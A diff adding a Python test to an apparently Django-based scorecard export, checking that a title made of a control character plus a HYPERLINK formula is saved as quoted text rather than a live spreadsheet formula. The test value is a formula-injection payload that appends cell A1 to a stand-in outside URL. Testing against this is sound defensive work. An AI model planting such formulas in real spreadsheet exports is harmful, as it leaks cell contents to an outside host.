@@ -100,6 +100,24 @@ def test_text_that_looks_like_a_formula_is_stored_as_text(plan, manager):
     assert b"<f>" not in xml and b"<f " not in xml
 
 
+def test_a_control_character_before_an_equals_sign_is_dropped_and_the_rest_kept_as_text(
+    plan, manager
+):
+    from improvement.scorecard.workbook import workbook_bytes
+
+    hostile = Indicator.objects.get(plan=plan, code="3")
+    hostile.title = '\x01=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    save_tracked(hostile, user=manager, reason="test")
+    data = workbook_bytes(plan)
+    cell = sheet(data).cell(8, 2)
+    assert cell.value == '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    assert cell.data_type == "s"
+    assert cell.quotePrefix is True
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        xml = z.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in xml and b"<f " not in xml
+
+
 def test_the_export_downloads_for_the_chosen_months(client, owner):
     client.force_login(owner)
     url = reverse("scorecard:export", args=["childrens-services"])
